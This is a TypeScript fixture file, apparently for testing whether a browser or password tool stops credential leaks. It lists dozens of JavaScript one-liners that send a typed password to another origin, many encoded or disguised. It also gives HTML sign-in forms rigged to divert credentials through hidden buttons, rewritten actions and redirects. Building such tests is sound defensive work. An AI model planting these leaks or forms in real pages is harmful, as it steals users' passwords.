/**
 * Ways in which a page hands the password `P` of its form to another origin. In the code of each, `P` is a variable with the password,
 * `to` the address at the other origin that must not be reached, and `near` the same at another port of the page's own host.
 */
export interface Leak {
  name: string;
  code: string;
}

const post = (body: string, more = ''): string => `fetch(to,{method:'POST',mode:'no-cors',body:${body}${more}})`;
const worker = (code: string): string => `new Worker(URL.createObjectURL(new Blob([${code}])))`;

/** Leaks beside a sign-in that works: all of them are tried on one page, once the password is typed. */
export const LEAKS: readonly Leak[] = [
  { name: 'body as text', code: post('P') },
  { name: 'body as a form', code: post('new URLSearchParams({p:P})') },
  { name: 'body in parts', code: `d=new FormData;d.set('p',P);${post('d')}` },
  { name: 'body with a file', code: `d=new FormData;d.set('p',new File([P],'p.txt'));${post('d')}` },
  { name: 'body of a blob', code: post('new Blob([P])') },
  { name: 'body as JSON', code: post('JSON.stringify({login:{words:[P]}})') },
  {
    name: 'body as JSON in JSON',
    code: post('JSON.stringify({event:JSON.stringify({p:encodeURIComponent(P)})})'),
  },
  { name: 'body in base64', code: post('btoa(P)') },
  { name: 'body in base64 of JSON', code: post('btoa(JSON.stringify({u:"ann",p:P}))') },
  { name: 'body in hex', code: post('hex(P)') },
  { name: 'body in UTF-16', code: post('new Uint16Array([...P].map(c=>c.charCodeAt(0)))') },
  { name: 'body backwards', code: post('[...P].reverse().join("")') },
  { name: 'body with dashes between', code: post('[...P].join("-")') },
  {
    name: 'body that is compressed',
    code: `new Response(new Blob([P]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(b=>${post('b')})`,
  },
  {
    name: 'body that is compressed without a head',
    code: `new Response(new Blob([P]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer().then(b=>${post('b')})`,
  },
  { name: 'keepalive', code: post('P', ',keepalive:true') },
  { name: 'keepalive while leaving', code: `addEventListener('pagehide',()=>${post('P', ',keepalive:true')})` },
  { name: 'beacon', code: 'navigator.sendBeacon(to,P)' },
  { name: 'beacon of a blob', code: `navigator.sendBeacon(to,new Blob([P],{type:'text/plain'}))` },
  { name: 'beacon while leaving', code: `addEventListener('pagehide',()=>navigator.sendBeacon(to,P))` },
  { name: 'XMLHttpRequest', code: `x=new XMLHttpRequest;x.open('POST',to);x.send(P)` },
  { name: 'query', code: `new Image().src=to+'?p='+encodeURIComponent(P)` },
  { name: 'query, all of it percent', code: `new Image().src=to+'?p='+hex(P).replace(/../g,'%$&')` },
  { name: 'path in base64', code: `fetch(to+'/'+btoa(P).replace(/\\//g,'_').replace(/\\+/g,'-'),{mode:'no-cors'})` },
  { name: 'header', code: `fetch(to,{headers:{'x-p':btoa(P)}})` },
  { name: 'name of a header', code: `fetch(to,{headers:{['x-'+hex(P)]:'1'}})` },
  {
    name: 'style sheet',
    code: `s=document.head.appendChild(document.createElement('style'));s.textContent='@import url('+to+'?'+hex(P)+')'`,
  },
  { name: 'script', code: `s=document.createElement('script');s.src=to+'?'+btoa(P);document.head.append(s)` },
  { name: 'event source', code: `new EventSource(to+'?p='+encodeURIComponent(P))` },
  {
    name: 'frame',
    code: `f=document.createElement('iframe');f.src=to+'?p='+encodeURIComponent(P);document.body.append(f)`,
  },
  {
    name: 'frame of its own text',
    code: `f=document.createElement('iframe');f.srcdoc='<img src="'+to+'?'+hex(P)+'">';document.body.append(f)`,
  },
  {
    name: 'form into a frame',
    code: `f=document.body.appendChild(document.createElement('form'));f.method='post';f.action=to;f.target='sink';i=f.appendChild(document.createElement('input'));i.name='p';i.value=P;f.submit()`,
  },
  {
    name: 'link that asks another to be told',
    code: `a=document.createElement('a');a.href='#x';a.ping=to+'?'+btoa(P);a.click()`,
  },
  { name: 'worker', code: worker(`'fetch("'+to+'",{method:"POST",mode:"no-cors",body:'+JSON.stringify(P)+'})'`) },
  { name: 'worker that imports', code: worker(`'importScripts("'+to+'?'+btoa(P)+'")'`) },
  {
    name: 'shared worker',
    code: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("'+to+'",{method:"POST",mode:"no-cors",body:'+JSON.stringify(P)+'})'])))`,
  },
  { name: 'socket by its address', code: `new WebSocket(to.replace('http','ws')+'?'+btoa(P))` },
  { name: 'socket', code: `w=new WebSocket(to.replace('http','ws'));w.onopen=()=>w.send(P)` },
  {
    name: 'socket of a worker',
    code: worker(`'w=new WebSocket("'+to.replace('http','ws')+'");w.onopen=()=>w.send("'+btoa(P)+'")'`),
  },
  { name: 'redirect with 307', code: `fetch('/hop?307&'+to,{method:'POST',mode:'no-cors',body:P})` },
  { name: 'redirect with 308', code: `fetch('/hop?308&'+to,{method:'POST',mode:'no-cors',body:P})` },
  { name: 'redirect with 302 to an address with it', code: `new Image().src='/hop?302&'+to+'?'+hex(P)` },
  {
    name: 'referrer',
    code: `h=location.href;history.replaceState(0,'','?p='+encodeURIComponent(P));fetch(to,{mode:'no-cors',referrerPolicy:'unsafe-url'});history.replaceState(0,'',h)`,
  },
  { name: 'cookie at another port', code: `document.cookie='p='+btoa(P)+';path=/';new Image().src=near` },
  {
    name: 'cookie at another port after a redirect',
    code: `document.cookie='p='+btoa(P)+';path=/';new Image().src='/hop?302&'+near`,
  },
  {
    name: 'name of a relay for calls',
    code: `c=new RTCPeerConnection({iceServers:[{urls:'turn:'+to.split('/')[2]+'?transport=tcp',username:P,credential:P}],iceTransportPolicy:'relay'});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))`,
  },
  { name: 'message to a frame of the other origin', code: `sink2.postMessage([P,to],'*')` },
];

/** A form that takes the password elsewhere in place of signing in. `HERE` and `TO` are the two addresses, `OPEN` and `SHUT` its tags. */
export interface Trap {
  name: string;
  form: string;
  /** True where the form itself says so: nothing is typed then. */
  isPlain?: true;
  /** Where the site sends on what reaches its own sign-in: a status. */
  redirects?: number;
}

const FIELDS = '<label>User <input name=user></label><label>Password <input type=password name=password></label>';

export const TRAPS: readonly Trap[] = [
  {
    name: 'action elsewhere',
    isPlain: true,
    form: `<form method=post action="TO">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'button with a formaction elsewhere',
    isPlain: true,
    form: `<form method=post action="HERE">${FIELDS}<button formaction="TO">Sign in</button></form>`,
  },
  {
    name: 'picture with a formaction elsewhere',
    isPlain: true,
    form: `<form method=post action="HERE">${FIELDS}<input type=image alt="Sign in" formaction="TO" src="data:," width=80 height=20></form>`,
  },
  {
    name: 'hidden default button elsewhere, Enter alone sends',
    isPlain: true,
    form: `<form method=post action="HERE"><button formaction="TO" style="position:absolute;left:-900px">x</button>${FIELDS}</form>`,
  },
  {
    name: 'button outside of the form, elsewhere',
    isPlain: true,
    form: `<form method=post action="HERE" id=f>${FIELDS}</form><button form=f formaction="TO">Sign in</button>`,
  },
  {
    name: 'action changed while it is sent',
    form: `<form method=post action="HERE" onsubmit="this.action='TO'">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'action changed by the button',
    form: `<form method=post action="HERE">${FIELDS}<button onclick="this.form.action='TO'">Sign in</button></form>`,
  },
  {
    name: 'formaction set while it is pressed',
    form: `<form method=post action="HERE">${FIELDS}<button onmousedown="this.formAction='TO'">Sign in</button></form>`,
  },
  {
    name: 'another form sent in its place',
    form: `<form method=post id=g action="TO"><input type=hidden name=p></form><form method=post action="HERE" onsubmit="g.p.value=btoa(this.password.value);g.submit();return false">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent into a new window elsewhere',
    form: `<form method=post action="HERE" onsubmit="this.target='_blank';this.action='TO'">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent into a frame elsewhere',
    form: `<iframe name=sink3></iframe><form method=post action="HERE" onsubmit="this.target='sink3';this.action='TO'">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent as a query elsewhere',
    form: `<form method=post action="HERE" onsubmit="this.method='get';this.action='TO'">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'page left for an address with it',
    form: `<form method=post action="HERE" onsubmit="location='TO?'+btoa(this.password.value);return false">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'page left for an address with it as name and password',
    form: `<form method=post action="HERE" onsubmit="location='TO'.replace('//','//ann:'+encodeURIComponent(this.password.value)+'@')+'/authenticated';return false">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent by script elsewhere',
    form: `<form method=post action="HERE" onsubmit="fetch('TO',{method:'POST',mode:'no-cors',body:JSON.stringify({u:this.user.value,p:this.password.value})}).then(()=>location='/home');return false">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent on with 307',
    redirects: 307,
    form: `<form method=post action="HERE">${FIELDS}<button>Sign in</button></form>`,
  },
  {
    name: 'sent on with 308',
    redirects: 308,
    form: `<form method=post action="HERE">${FIELDS}<button>Sign in</button></form>`,
  },
];
